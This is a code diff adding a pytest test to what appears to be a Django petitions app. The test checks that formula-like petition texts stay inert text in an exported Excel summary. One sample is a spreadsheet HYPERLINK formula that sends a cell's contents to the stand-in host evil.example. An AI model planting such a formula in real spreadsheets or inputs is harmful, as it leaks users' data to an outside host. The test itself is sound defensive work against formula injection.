@@ -235,6 +235,27 @@ def test_secretary_prints_the_daily_summary_and_takes_the_excel(client, pw):
     assert p.reference in references
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1+1 楼道堵塞", "-2+3", "@SUM(1,2)", "#N/A"])
+def test_a_request_that_looks_like_a_formula_stays_text_in_the_excel(client, pw, text):
+    p = pw.submit(description=text)
+    walk_to(pw, pw.submit(), Status.ACCEPTED)
+    escalated = move(
+        Petition.objects.get(status=Status.ACCEPTED), pw.gw.secretary_x, "escalate", reason=text
+    )
+    client.force_login(pw.gw.secretary_x)
+    book = load_workbook(io.BytesIO(client.get(reverse("petitions:summary-xlsx")).content))
+    came_in = {row[0].value: row[7] for row in book.worksheets[0].iter_rows(min_row=3)}
+    went_up = {row[0].value: row[4] for row in book.worksheets[2].iter_rows(min_row=2)}
+    for cell in (came_in[p.reference], went_up[escalated.reference]):
+        assert cell.data_type == "s"  # not "f" (formula) nor "e" (error)
+        assert cell.value == text
+        # Excel's "text as typed" flag: editing the cell does not turn it into a formula.
+        assert cell.quotePrefix
+
+
 def test_residents_have_no_summary_or_rates(client, pw):
     client.force_login(pw.tenant)
     assert client.get(reverse("petitions:summary")).status_code == 404
